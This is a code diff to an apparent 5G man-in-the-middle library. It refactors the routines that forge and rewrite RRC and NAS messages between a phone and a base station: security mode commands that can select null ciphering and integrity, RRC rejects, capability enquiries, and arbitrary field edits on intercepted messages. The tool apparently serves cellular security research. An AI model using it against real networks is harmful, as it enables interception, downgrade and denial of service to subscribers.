@@ -4,6 +4,8 @@
 #include "rapidjson/stringbuffer.h"
 #include "mitm_lib/asn1/rrc_nr.h"
 #include "mitm_lib/asn1/rrc_nr_utils.h"
+#include "mitm_lib/asn1/rrc_nr_field_path.h"
+#include "mitm_lib/asn1/rrc_nr_containers.h"
 #include "mitm_lib/common/byte_buffer.h"
 #include "mitm_lib/common/common_nr.h"
 #include "mitm_lib/asn1/nas_5g_msg.h"
@@ -11,16 +13,118 @@
 #include "mitm_lib/asn1/nas_5g_utils.h"
 #include "../src/ue_packet_handler.h"
 #include "../src/gnb_packet_handler.h"
+#include "../src/nas_security.h"
+
+#include <mutex>
+#include <unordered_map>
 
 using namespace rapidjson;
 
 uint8_t msg_buffer_bytes[65535];
-uint8_t* jsonPacketMaker::json_to_packet(std::string buf, uint8_t* original_msg, int size) {
-  
+int msg_buffer_len = 0;
+
+// Packs the spoofed RRC message straight into the outgoing datagram, behind the channel of the original one. If it
+// can't be packed, the original message of size bytes goes out unchanged
+template <class RrcMsg>
+static int pack_to_datagram(RrcMsg& msg, const uint8_t* original_msg, int size) {
+  memcpy(msg_buffer_bytes, original_msg, sizeof(uint32_t));
+
+  asn1::bit_ref bref(msg_buffer_bytes + sizeof(uint32_t), sizeof(msg_buffer_bytes) - sizeof(uint32_t));
+  if (msg.pack(bref) != asn1::SRSASN_SUCCESS) {
+    std::cerr << "Failed to pack spoofed RRC message, relaying the original one" << std::endl;
+    memcpy(msg_buffer_bytes, original_msg, size);
+    msg_buffer_len = size;
+    return SRSRAN_ERROR;
+  }
+  bref.align_bytes_zero();
+  msg_buffer_len = sizeof(uint32_t) + bref.distance_bytes();
+
+  return msg_buffer_len;
+}
+
+// The paths of a message type are compiled the first time a verdict sets them, and reused for the later verdicts
+template <class RrcMsg>
+static const asn1::field_path& compiled_path(const std::string& name) {
+  static std::mutex                                        mutex;
+  static std::unordered_map<std::string, asn1::field_path> paths;
+
+  std::lock_guard<std::mutex> lock(mutex);
+  auto it = paths.find(name);
+  if (it == paths.end()) {
+    it = paths.emplace(name, asn1::field_path::compile<RrcMsg>(name, &asn1::rrc_nr::containers())).first;
+  }
+  return it->second;
+}
+
+// Sets the fields on the decoded original message and packs it. The paths go through the RRC containers, which are
+// packed back into their outer fields. If any field can't be set the original message goes out unchanged
+template <class RrcMsg>
+static void apply_field_updates(const uint8_t* original_msg, int size, const Value& fields) {
+  RrcMsg msg;
+  asn1::cbit_ref bref(original_msg + sizeof(uint32_t), size - sizeof(uint32_t));
+  if (msg.unpack(bref) != asn1::SRSASN_SUCCESS) {
+    std::cerr << "Failed to unpack the RRC message to spoof" << std::endl;
+    return;
+  }
+
+  for (Value::ConstMemberIterator field = fields.MemberBegin(); field != fields.MemberEnd(); ++field) {
+    const asn1::field_path& path = compiled_path<RrcMsg>(field->name.GetString());
+    asn1::field_value value;
+    if (field->value.IsString()) {
+      value.str = field->value.GetString();
+    } else if (field->value.IsInt64()) {
+      value.num = field->value.GetInt64();
+    } else if (field->value.IsBool()) {
+      value.num = field->value.GetBool();
+    }
+    if (!path.set(msg, value)) {
+      std::cerr << "Cannot set " << field->name.GetString() << std::endl;
+      return;
+    }
+  }
+
+  pack_to_datagram(msg, original_msg, size);
+}
+
+void jsonPacketMaker::handle_field_updates(uint8_t* original_msg, int size, const rapidjson::Value& fields) {
+  std::cout << "Spoofing RRC fields" << std::endl;
+  if (size < (int)sizeof(uint32_t) || fields.MemberBegin() == fields.MemberEnd()) {
+    return;
+  }
+
+  // The paths start with the name of the message, e.g. "DL-DCCH-Message.message.c1...", which tells its type
+  std::string first = fields.MemberBegin()->name.GetString();
+  std::string root = first.substr(0, first.find('.'));
+  if (root == "DL-DCCH-Message") {
+    apply_field_updates<asn1::rrc_nr::dl_dcch_msg_s>(original_msg, size, fields);
+  } else if (root == "UL-DCCH-Message") {
+    apply_field_updates<asn1::rrc_nr::ul_dcch_msg_s>(original_msg, size, fields);
+  } else if (root == "DL-CCCH-Message") {
+    apply_field_updates<asn1::rrc_nr::dl_ccch_msg_s>(original_msg, size, fields);
+  } else if (root == "UL-CCCH-Message") {
+    apply_field_updates<asn1::rrc_nr::ul_ccch_msg_s>(original_msg, size, fields);
+  } else {
+    std::cerr << "Unknown RRC message: " << root << std::endl;
+  }
+}
+
+uint8_t* jsonPacketMaker::json_to_packet(std::string buf, uint8_t* original_msg, int size, int& packet_size) {
+
+  // Unless a spoofing handler rebuilds it, the original message goes out unchanged
+  memcpy(msg_buffer_bytes, original_msg, size);
+  msg_buffer_len = size;
+
   Document d;
   //d.Parse(json_buffer->to_string().c_str());
   d.Parse(buf.c_str());
 
+  // {"set": {"<field path>": value, ...}} edits fields of the original message, inside its containers too
+  if (d.IsObject() && d.HasMember("set") && d["set"].IsObject()) {
+    handle_field_updates(original_msg, size, d["set"]);
+    packet_size = msg_buffer_len;
+    return msg_buffer_bytes;
+  }
+
   // RRC Messages
   const char* rrcSecurityModeComplete = "securityModeComplete";
 
@@ -191,9 +295,7 @@ uint8_t* jsonPacketMaker::json_to_packet(std::string buf, uint8_t* original_msg,
 
 		   else if (strcmp(dlInfoTransfer, content->name.GetString()) == 0) { // If DL Info Transfer (NAS)
 	             std::cout << buf << std::endl;
-		     uint8_t* MAC;
-		     int sn = 0;
-		     handle_nas_security_mode_command(original_msg, rrcTransactionIdentifier, MAC, sn, size);
+		     handle_nas_security_mode_command(original_msg, rrcTransactionIdentifier, size);
 		   }
 
 		   else if (strcmp(rrcSetupComplete, content->name.GetString()) == 0) { // If RRC Setup Complete (RRC + NAS)
@@ -233,15 +335,11 @@ uint8_t* jsonPacketMaker::json_to_packet(std::string buf, uint8_t* original_msg,
 
   std::cout << "\n";
 
+  packet_size = msg_buffer_len;
   return msg_buffer_bytes;
 }
 
 void jsonPacketMaker::handle_rrc_security_mode_complete(uint8_t* original_msg, int rrcTransactionIdentifier, int size) {
-  struct msg_struct {
-    uint32_t channel;
-    uint8_t msg[32768];
-  } msg_buffer;
-  
   std::cout << "\n" << std::endl;
   std::cout << "Spoofing RRC Security Mode Complete" << std::endl;
   std::cout << "RRC Transaction Identifier: " << rrcTransactionIdentifier << std::endl;
@@ -255,40 +353,17 @@ void jsonPacketMaker::handle_rrc_security_mode_complete(uint8_t* original_msg, i
   //ul_dcch_msg.to_json(*json_buf);
   //std::cout << json_buf->to_string() << std::endl;
 
-  asn1::rrc_nr::ul_dcch_msg_s& msg = ul_dcch_msg;
-  srsran::unique_byte_buffer_t pdu = srsran::make_byte_buffer();
-  if (pdu == nullptr) {
-    std::cout << "pdu creation failed" << std::endl;
+  if (pack_to_datagram(ul_dcch_msg, original_msg, size) < 0) {
+    return;
   }
 
-  asn1::bit_ref bref(pdu->msg, pdu->get_tailroom());
-  msg.pack(bref);
-  bref.align_bytes_zero();
-  pdu->N_bytes = (uint32_t)bref.distance_bytes(pdu->msg);
-  pdu->set_timestamp();
-
-  memcpy(&msg_buffer, original_msg, size);
-
-  //msg_buffer.channel = srsran::srb_to_lcid(srsran::nr_srb::srb1);
-  //msg_buffer.channel = buf.channel;
-  memcpy(msg_buffer.msg, pdu->msg, pdu->N_bytes);
-
-  //uint8_t msg_buffer_bytes[65535];
-  //msg_buffer_bytes = reinterpret_cast<uint8_t*>(&msg_buffer);
-  memcpy(msg_buffer_bytes, &msg_buffer, size);
-
-  for (int i=0; i<size; i++) {
+  for (int i=0; i<msg_buffer_len; i++) {
     std::cout << std::to_string(msg_buffer_bytes[i]) << " ";
   }
   std::cout << "\n";
 }
 
 void jsonPacketMaker::handle_rrc_security_mode_command(uint8_t* original_msg, int rrcTransactionIdentifier, std::string cipheringAlgorithm, std::string integrityAlgorithm, bool non_crit_ext_present, std::string late_non_crit_ext, int size) {
-  struct msg_struct {
-    uint32_t channel;
-    uint8_t msg[32768];
-  } msg_buffer;
-
   std::cout << "\n" << std::endl;
   std::cout << "Spoofing RRC Security Mode Command" << std::endl;
   std::cout << "RRC Transaction Identifier: " << rrcTransactionIdentifier << std::endl;
@@ -301,26 +376,21 @@ void jsonPacketMaker::handle_rrc_security_mode_command(uint8_t* original_msg, in
   dl_dcch_msg.msg.set_c1().set_security_mode_cmd().rrc_transaction_id = rrcTransactionIdentifier;
   asn1::rrc_nr::security_mode_cmd_ies_s& ies = dl_dcch_msg.msg.c1().security_mode_cmd().crit_exts.set_security_mode_cmd();
 
+  // Field paths are resolved once; each spoof only follows the precompiled hops
+  static const asn1::field_path ciphering_path = asn1::field_path::compile<asn1::rrc_nr::dl_dcch_msg_s>(
+      "DL-DCCH-Message.message.c1.securityModeCommand.criticalExtensions.securityModeCommand."
+      "securityConfigSMC.securityAlgorithmConfig.cipheringAlgorithm");
+  static const asn1::field_path integrity_path = asn1::field_path::compile<asn1::rrc_nr::dl_dcch_msg_s>(
+      "DL-DCCH-Message.message.c1.securityModeCommand.criticalExtensions.securityModeCommand."
+      "securityConfigSMC.securityAlgorithmConfig.integrityProtAlgorithm");
+
   ies.security_cfg_smc.security_algorithm_cfg.integrity_prot_algorithm_present = true;
 
-  if (cipheringAlgorithm.compare("nea0") == 0) {
-    ies.security_cfg_smc.security_algorithm_cfg.ciphering_algorithm = (asn1::rrc_nr::ciphering_algorithm_e::options)0;
-  } else if (cipheringAlgorithm.compare("nea1") == 0) {
-    ies.security_cfg_smc.security_algorithm_cfg.ciphering_algorithm = (asn1::rrc_nr::ciphering_algorithm_e::options)1;
-  } else if (cipheringAlgorithm.compare("nea2") == 0) {
-    ies.security_cfg_smc.security_algorithm_cfg.ciphering_algorithm = (asn1::rrc_nr::ciphering_algorithm_e::options)2;
-  } else if (cipheringAlgorithm.compare("nea3") == 0) {
-    ies.security_cfg_smc.security_algorithm_cfg.ciphering_algorithm = (asn1::rrc_nr::ciphering_algorithm_e::options)3;
+  if (!ciphering_path.set(dl_dcch_msg, cipheringAlgorithm)) {
+    std::cerr << "Unknown ciphering algorithm: " << cipheringAlgorithm << std::endl;
   }
-
-  if (integrityAlgorithm.compare("nia0") == 0) {
-    ies.security_cfg_smc.security_algorithm_cfg.integrity_prot_algorithm = (asn1::rrc_nr::integrity_prot_algorithm_e::options)0;
-  } else if (integrityAlgorithm.compare("nia1") == 0) {
-    ies.security_cfg_smc.security_algorithm_cfg.integrity_prot_algorithm = (asn1::rrc_nr::integrity_prot_algorithm_e::options)1;
-  } else if (integrityAlgorithm.compare("nia2") == 0) {
-    ies.security_cfg_smc.security_algorithm_cfg.integrity_prot_algorithm = (asn1::rrc_nr::integrity_prot_algorithm_e::options)2;
-  } else if (integrityAlgorithm.compare("nia3") == 0) {
-    ies.security_cfg_smc.security_algorithm_cfg.integrity_prot_algorithm = (asn1::rrc_nr::integrity_prot_algorithm_e::options)3;
+  if (!integrity_path.set(dl_dcch_msg, integrityAlgorithm)) {
+    std::cerr << "Unknown integrity algorithm: " << integrityAlgorithm << std::endl;
   }
 
   if (non_crit_ext_present) {
@@ -331,39 +401,23 @@ void jsonPacketMaker::handle_rrc_security_mode_command(uint8_t* original_msg, in
     ies.late_non_crit_ext.from_string(late_non_crit_ext);
   }
 
-  asn1::rrc_nr::dl_dcch_msg_s& msg = dl_dcch_msg;
-  srsran::unique_byte_buffer_t pdu = srsran::make_byte_buffer();
-  if (pdu == nullptr) {
-    std::cout << "pdu creation failed" << std::endl;
-  }
   //srsran::unique_byte_buffer_t pdu = srsran::pack_into_pdu(dl_dcch_msg);
   
   asn1::json_writer *json_buf = new asn1::json_writer();
   dl_dcch_msg.to_json(*json_buf);
   std::cout << json_buf->to_string() << std::endl;
 
-  asn1::bit_ref bref(pdu->msg, pdu->get_tailroom());
-  msg.pack(bref);
-  bref.align_bytes_zero();
-  pdu->N_bytes = (uint32_t)bref.distance_bytes(pdu->msg);
-  pdu->set_timestamp();
-
-  memcpy(&msg_buffer, original_msg, size);
-  memcpy(msg_buffer.msg, pdu->msg, pdu->N_bytes);
-  memcpy(msg_buffer_bytes, &msg_buffer, size);
+  if (pack_to_datagram(dl_dcch_msg, original_msg, size) < 0) {
+    return;
+  }
 
-  for (int i=0; i<size; i++) {
+  for (int i=0; i<msg_buffer_len; i++) {
     std::cout << std::to_string(msg_buffer_bytes[i]) << " ";
   }
   std::cout << "\n";
 }
 
 void jsonPacketMaker::handle_rrc_reject(uint8_t* original_msg, uint8_t waitTime, int size) {
-  struct msg_struct {
-    uint32_t channel;
-    uint8_t msg[32768];
-  } msg_buffer;
-
   std::cout << "\n" << std::endl;
   std::cout << "Spoofing RRC Reject" << std::endl;
   std::cout << "RRC Reject Max Wait Time: " << waitTime << std::endl;
@@ -377,38 +431,22 @@ void jsonPacketMaker::handle_rrc_reject(uint8_t* original_msg, uint8_t waitTime,
     reject.wait_time         = waitTime;
   }
 
-  asn1::rrc_nr::dl_ccch_msg_s& msg = dl_ccch_msg;
-  srsran::unique_byte_buffer_t pdu = srsran::make_byte_buffer();
-  if (pdu == nullptr) {
-    std::cout << "pdu creation failed" << std::endl;
-  }
 
   asn1::json_writer *json_buf = new asn1::json_writer();
   dl_ccch_msg.to_json(*json_buf);
   std::cout << json_buf->to_string() << std::endl;
 
-  asn1::bit_ref bref(pdu->msg, pdu->get_tailroom());
-  msg.pack(bref);
-  bref.align_bytes_zero();
-  pdu->N_bytes = (uint32_t)bref.distance_bytes(pdu->msg);
-  pdu->set_timestamp();
-
-  memcpy(&msg_buffer, original_msg, size);
-  memcpy(msg_buffer.msg, pdu->msg, pdu->N_bytes);
-  memcpy(msg_buffer_bytes, &msg_buffer, size);
+  if (pack_to_datagram(dl_ccch_msg, original_msg, size) < 0) {
+    return;
+  }
 
-  for (int i=0; i<size; i++) {
+  for (int i=0; i<msg_buffer_len; i++) {
     std::cout << std::to_string(msg_buffer_bytes[i]) << " ";
   }
   std::cout << "\n";
 }
 
 void jsonPacketMaker::handle_rrc_ue_cap_enquiry(uint8_t* original_msg, int rrcTransactionIdentifier, std::string ratType, std::string capReqFilter, int size) {
-  struct msg_struct {
-    uint32_t channel;
-    uint8_t msg[32768];
-  } msg_buffer;
-
   std::cout << "\n" << std::endl;
   std::cout << "Spoofing RRC UE Cap Enquiry" << std::endl;
   std::cout << "RRC Transaction Identifier: " << rrcTransactionIdentifier << std::endl;
@@ -440,39 +478,23 @@ void jsonPacketMaker::handle_rrc_ue_cap_enquiry(uint8_t* original_msg, int rrcTr
 
   ies.ue_cap_rat_request_list.push_back(cap_rat_request);
 
-  asn1::rrc_nr::dl_dcch_msg_s& msg = dl_dcch_msg;
-  srsran::unique_byte_buffer_t pdu = srsran::make_byte_buffer();
-  if (pdu == nullptr) {
-    std::cout << "pdu creation failed" << std::endl;
-  }
   //srsran::unique_byte_buffer_t pdu = srsran::pack_into_pdu(dl_dcch_msg);
   
   asn1::json_writer *json_buf = new asn1::json_writer();
   dl_dcch_msg.to_json(*json_buf);
   std::cout << json_buf->to_string() << std::endl;
 
-  asn1::bit_ref bref(pdu->msg, pdu->get_tailroom());
-  msg.pack(bref);
-  bref.align_bytes_zero();
-  pdu->N_bytes = (uint32_t)bref.distance_bytes(pdu->msg);
-  pdu->set_timestamp();
-
-  memcpy(&msg_buffer, original_msg, size);
-  memcpy(msg_buffer.msg, pdu->msg, pdu->N_bytes);
-  memcpy(msg_buffer_bytes, &msg_buffer, size);
+  if (pack_to_datagram(dl_dcch_msg, original_msg, size) < 0) {
+    return;
+  }
 
-  for (int i=0; i<size; i++) {
+  for (int i=0; i<msg_buffer_len; i++) {
     std::cout << std::to_string(msg_buffer_bytes[i]) << " ";
   }
   std::cout << "\n";
 }
 
 void jsonPacketMaker::handle_rrc_setup_complete(uint8_t* original_msg, int rrcTransactionIdentifier, int plmnIdentity, std::string dedicatedNAS, int size, const Value& obj) {
-  struct msg_struct {
-    uint32_t channel;
-    uint8_t msg[32768];
-  } msg_buffer;
-
   // 5GS Mobility Management
   std::string extended_protocol_discriminator = "";
   std::string security_header_type = "";
@@ -1132,66 +1154,65 @@ void jsonPacketMaker::handle_rrc_setup_complete(uint8_t* original_msg, int rrcTr
   
   rrc_setup_complete->ded_nas_msg.resize(nas_msg->N_bytes);
   memcpy(rrc_setup_complete->ded_nas_msg.data(), nas_msg->msg, nas_msg->N_bytes);
-   
-  asn1::rrc_nr::ul_dcch_msg_s& msg = ul_dcch_msg;
-  srsran::unique_byte_buffer_t pdu = srsran::make_byte_buffer();
-  if (pdu == nullptr) {
-    std::cout << "pdu creation failed" << std::endl;
-  }
-
-  asn1::bit_ref bref(pdu->msg, pdu->get_tailroom());
-  msg.pack(bref);
-  bref.align_bytes_zero();
-  pdu->N_bytes = (uint32_t)bref.distance_bytes(pdu->msg);
-  pdu->set_timestamp();
 
-  memcpy(&msg_buffer, original_msg, size);
-  memcpy(msg_buffer.msg, pdu->msg, pdu->N_bytes);
-  memcpy(msg_buffer_bytes, &msg_buffer, size);
+  if (pack_to_datagram(ul_dcch_msg, original_msg, size) < 0) {
+    return;
+  }
 
-  for (int i=0; i<size; i++) {
+  for (int i=0; i<msg_buffer_len; i++) {
     std::cout << std::to_string(msg_buffer_bytes[i]) << " ";
   }
   std::cout << "\n";
 
   asn1::json_writer* json_buffer = new asn1::json_writer;
   json_buffer->start_array();
-  int result = UE::decode_packet(msg_buffer_bytes, size, *json_buffer);
+  int result = UE::decode_packet(msg_buffer_bytes, msg_buffer_len, *json_buffer);
   json_buffer->end_array();
   std::cout << json_buffer->to_string() << std::endl;
   
 }
 
-void jsonPacketMaker::handle_nas_security_mode_command(uint8_t* original_msg, int rrcTransactionIdentifier, uint8_t* MAC, int sn, int size) {
-  struct msg_struct {
-    uint32_t channel;
-    uint8_t msg[32768];
-  } msg_buffer;
+void jsonPacketMaker::handle_nas_security_mode_command(uint8_t* original_msg, int rrcTransactionIdentifier, int size) {
+  using namespace srsran::nas_5g;
 
   std::cout << "\n";
   std::cout << "Spoofing NAS Security Mode Command" << std::endl;
   std::cout << "RRC Transaction Identifier: " << rrcTransactionIdentifier << std::endl;
-  std::cout << "Message Authentication Code: " << MAC << std::endl;
-  std::cout << "Sequence Number: " << sn << std::endl;
-  std::cout << "\n";
-  
+
+  // The spoofed command re-selects the algorithms of the current context, so it can be protected with its keys
+  nas_5gs_msg nas_msg;
+  security_mode_command_t& smc = nas_msg.set_security_mode_command();
+  nas_msg.hdr.security_header_type = nas_5gs_hdr::integrity_protected_with_new_5G_nas_context;
+  nas_msg.hdr.sequence_number = nas_sec_ctx.next_sequence_number(srsran::SECURITY_DIRECTION_DOWNLINK);
+  smc.selected_nas_security_algorithms.ciphering_algorithm =
+      (security_algorithms_t::ciphering_algorithm_type_::options)nas_sec_ctx.get_cipher_algo();
+  smc.selected_nas_security_algorithms.integrity_protection_algorithm =
+      (security_algorithms_t::integrity_protection_algorithm_type_::options)nas_sec_ctx.get_integ_algo();
+  smc.ng_ksi.nas_key_set_identifier = (key_set_identifier_t::nas_key_set_identifier_type_::options)nas_sec_ctx.get_ng_ksi();
+
   srsran::unique_byte_buffer_t pdu = srsran::make_byte_buffer();
-  if (pdu == nullptr) {
-    std::cout << "pdu creation failed" << std::endl;
+  if (pdu == nullptr or nas_msg.pack(pdu) != asn1::SRSASN_SUCCESS) {
+    std::cerr << "Failed to pack spoofed NAS Security Mode Command" << std::endl;
+    return;
+  }
+  if (nas_sec_ctx.protect(*pdu, srsran::SECURITY_DIRECTION_DOWNLINK) != SRSRAN_SUCCESS) {
+    std::cerr << "No NAS security context, the spoofed NAS Security Mode Command has no valid MAC" << std::endl;
   }
-  asn1::bit_ref msg_bref(pdu->msg, pdu->get_tailroom());
 
-  srsran::nas_5g::nas_5gs_hdr hdr;
-  srslog::detail::any msg_container = srslog::detail::any{srsran::nas_5g::security_mode_command_t()};
-  srsran::nas_5g::security_mode_command_t* msg = srslog::detail::any_cast<srsran::nas_5g::security_mode_command_t>(&msg_container);
-  
-  hdr.pack(msg_bref);
-  msg->pack(msg_bref);
+  asn1::rrc_nr::dl_dcch_msg_s dl_dcch_msg;
+  asn1::rrc_nr::dl_info_transfer_s& dl_info_transfer = dl_dcch_msg.msg.set_c1().set_dl_info_transfer();
+  dl_info_transfer.rrc_transaction_id = rrcTransactionIdentifier;
+  asn1::rrc_nr::dl_info_transfer_ies_s& ies = dl_info_transfer.crit_exts.set_dl_info_transfer();
+  ies.ded_nas_msg.resize(pdu->N_bytes);
+  memcpy(ies.ded_nas_msg.data(), pdu->msg, pdu->N_bytes);
 
-  asn1::json_writer *json_buf = new asn1::json_writer();
-  hdr.to_json(*json_buf);
-  msg->to_json(*json_buf);
-  std::cout << json_buf->to_string() << std::endl;
+  asn1::json_writer json_buf;
+  dl_dcch_msg.to_json(json_buf);
+  std::cout << json_buf.to_string() << std::endl;
+
+  if (pack_to_datagram(dl_dcch_msg, original_msg, size) < 0) {
+    std::cerr << "The NAS Security Mode Command was not spoofed" << std::endl;
+  }
 }
 
 /*